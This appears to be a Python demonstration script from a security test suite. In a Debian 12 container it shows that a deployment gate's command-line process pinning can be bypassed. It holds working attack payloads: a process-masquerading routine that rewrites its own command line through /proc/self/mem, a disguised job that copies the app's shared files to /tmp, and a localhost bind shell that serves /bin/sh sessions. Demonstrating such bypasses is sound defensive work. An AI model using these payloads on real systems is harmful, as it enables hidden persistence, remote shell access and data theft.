"""attackpin14's demonstration on one Debian 12 container (not a test: its output is recorded in REPORT.md).

An admin allows, pinned from the gate's own hints, two programs of the app user: a job (``allow_processes``:
``/usr/bin/python3 /opt/report/report.py``) and a listener on localhost:8099 (``allow_listen``:
``/usr/bin/python3 /opt/report/serve.py``), both root's files. Then, as the app user (an attacker with the app's
rights) and touching none of the pinned files:

1. the job killed and a shell-copying job started as ``python3 /tmp/...evil.py``, which rewrites its own command
   line in memory (``/proc/self/mem`` at ``arg_start``) to the allowed one;
2. the listener replaced by a shell server whose command line is rewritten the same way;
3. (as the deploy login, the gate's login here) a process whose command line names ``/proc/self/pagemap``: the
   login collector's ``ran`` step, run alone as that login with ``timeout 60``, on the given checkout's collector.

usage: python attackpin14/demo.py REPO [REPO ...]
"""

from __future__ import annotations

import io
import os
import sys
import tarfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "pinprog14"))
from demo import gate, pinned, show  # noqa: E402

from deploytests import pipeline  # noqa: E402
from deploytests.config import load_config  # noqa: E402
from deploytests.containers import Fleet  # noqa: E402
from deploytests.stacks import for_platform  # noqa: E402
from deploytests.suite.lab import APPS  # noqa: E402

APP = APPS / "yourapplication"
REPORT = "import time\nwhile True:\n    time.sleep(60)\n"
SERVE = ("import http.server\nhttp.server.HTTPServer(('127.0.0.1', 8099), "
         "http.server.SimpleHTTPRequestHandler).serve_forever()\n")
FORGE = """
import os
def forge(text):
    f = open('/proc/self/stat').read().rsplit(')', 1)[1].split()
    start, end = int(f[45]), int(f[46])  # (fields 48, 49: arg_start, arg_end)
    new = text.encode().replace(b' ', b'\\0') + b'\\0'
    with open('/proc/self/mem', 'r+b', buffering=0) as m:
        m.seek(start); m.write(new.ljust(end - start, b'\\0'))
"""
EVIL = FORGE + """
import time
forge('/usr/bin/python3 /opt/report/report.py')
while True:
    os.system('cp /var/www/yourapplication/shared/* /tmp/ 2>/dev/null'); time.sleep(60)
"""
SHELL = FORGE + """
import socket, subprocess
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 8099)); s.listen()
forge('/usr/bin/python3 /opt/report/serve.py')
while True:
    c, _ = s.accept(); subprocess.Popen(['/bin/sh', '-i'], stdin=c, stdout=c, stderr=c)
"""
PAD = "/tmp/" + "x" * 60
ADD = (f"mkdir -p /opt/report\ncat > /opt/report/report.py <<'X'\n{REPORT}X\n"
       f"cat > /opt/report/serve.py <<'X'\n{SERVE}X\ncd /\n"
       "setsid -f runuser -u yourapplication -- /usr/bin/python3 /opt/report/report.py >/dev/null 2>&1 </dev/null\n"
       "setsid -f runuser -u yourapplication -- /usr/bin/python3 /opt/report/serve.py >/dev/null 2>&1 </dev/null\n"
       "sleep 2\n")
ATTACK = (f"cat > {PAD}e.py <<'X'\n{EVIL}X\ncat > {PAD}s.py <<'X'\n{SHELL}X\n"
          "pkill -u yourapplication -f '^/usr/bin/python3 /opt/report/' ; sleep 1; cd /tmp\n"
          f"setsid -f /usr/bin/python3 {PAD}e.py >/dev/null 2>&1 </dev/null\n"
          f"setsid -f /usr/bin/python3 {PAD}s.py >/dev/null 2>&1 </dev/null\nsleep 2\n")
RAN = ("cd /tmp && timeout 60 python3 -c 'import resource, collect_login as C; "
       "out = {\"files\": {}, \"dirs\": {}, \"errors\": {}}; C.programs(out); C.ran(out); "
       "r = resource.getrusage(resource.RUSAGE_SELF); "
       "print(len(out[\"programs\"]), \"files hashed,\", round(r.ru_utime + r.ru_stime, 3), \"s CPU\")'; echo exit $?")


def put(box, path: str, data: bytes, uid: int = 0) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        info = tarfile.TarInfo(os.path.basename(path))
        info.size, info.mode, info.uid = len(data), 0o644, uid
        t.addfile(info, io.BytesIO(data))
    box.put_archive(os.path.dirname(path), buf.getvalue())


def sh(box, script: str, user: str = "root") -> str:
    res = box.exec_run(["sh", "-c", script], user=user)
    return res.output.decode(errors="replace")


def main(repos: list[Path]) -> None:
    tmp = Path(os.environ.get("TMPDIR", "/tmp")) / f"attackpin14-demo-{os.getpid()}"
    tmp.mkdir(parents=True)
    cfg, stack = load_config(APP), for_platform("debian12")
    with Fleet(count=1, name_prefix="attackpin14demo", image=stack.image, base=stack.base_image,
               progress=lambda m: None) as fleet:
        s, box = fleet.servers[0], fleet.containers[0]
        print(f"container {box.id[:12]}", flush=True)
        c = s.connection()
        boot = pipeline.bootstrap(c, cfg)
        pipeline.deploy(c, cfg, pipeline.pack(APP, cfg, python_version=boot.python_version))
        run = lambda repo, extra="": gate(repo, tmp, s, fleet.key.path, fleet.known_hosts, extra)  # noqa: E731
        print(sh(box, ADD))
        first = show("the two programs running, no allowances", run(repos[0]))
        allow = pinned(first)
        print("\npinned allowances from the hints:\n" + allow, flush=True)
        for repo in repos:
            show(f"{repo}: pinned allowances (control: the allowed programs unchanged)", run(repo, allow))
        print(sh(box, ATTACK, user="yourapplication"))
        print(sh(box, "ps -eo pid,user,args | grep -E 'report|python' | grep -v grep; ss -ltnp | grep 8099; "
                      "ls -l /proc/$(pgrep -f serve.py | head -1)/exe"), flush=True)
        for repo in repos:
            show(f"{repo}: pinned allowances, after the app user replaced both (no pinned file touched)",
                 run(repo, allow))
        print(sh(box, "pkill -u yourapplication -f report/ || true"))
        user = s.user
        print(sh(box, "cd /tmp && setsid -f sh -c 'sleep 900' /proc/self/pagemap >/dev/null 2>&1 </dev/null; sleep 1",
                 user=user))
        for repo in repos:
            put(box, "/tmp/collect_login.py", (repo / "deploytests/verify/collect_login.py").read_bytes())
            print(f"{repo}: the login collector's programs()+ran() as {user}: " + sh(box, RAN, user=user), flush=True)


if __name__ == "__main__":
    main([Path(a).resolve() for a in sys.argv[1:]])
